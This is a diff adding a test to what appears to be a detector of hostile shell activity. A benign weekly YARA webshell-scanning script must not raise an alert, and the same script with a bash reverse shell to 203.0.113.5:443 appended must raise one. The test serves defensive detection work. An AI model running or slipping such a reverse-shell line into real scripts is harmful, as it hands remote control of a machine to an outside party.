@@ -136,6 +136,32 @@ test('everyday words around a command do not hide it', async () => {
   );
 });
 
+test('a long script of everyday work tells of no attack, what it runs stays one', async () => {
+  const script = `#!/usr/bin/env bash
+# weekly: looks for webshells on our own web roots, cron Sunday 04:00
+# maintained by the web team, rules from the internal git repository
+set -euo pipefail
+RULES=/opt/yara-rules/webshells.yar
+OUT=/root/weekly-$(date +%F).txt
+ROOTS=(/var/www/html /var/www/shop /srv/intranet)
+
+: > "$OUT"
+for r in "\${ROOTS[@]}"; do
+  # strings such as eval($_POST[...]) and base64_decode are what the rules search for
+  yara -r -w "$RULES" "$r" >> "$OUT" 2>/dev/null || true
+done
+
+if [ -s "$OUT" ]; then
+  mail -s "yara: $(wc -l < "$OUT") hits, please review" webteam@radio.example < "$OUT"
+fi
+find /root -name 'weekly-*.txt' -mtime +180 -delete`;
+  const isRaised = async (text: string) =>
+    ['medium', 'high', 'critical'].includes((await analyze(text)).severity);
+  expect(readEvents(script).length).toBeGreaterThan(12);
+  expect(await isRaised(script)).toBe(false);
+  expect(await isRaised(`${script}\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1`)).toBe(true);
+});
+
 test('logs and what was stopped are left to rules; of files and requests the words only add', () => {
   const judged = (text: string) => isJudged(text, readEvents(text));
   const onlyWords = (text: string) => isOnlyWords(readEvents(text));
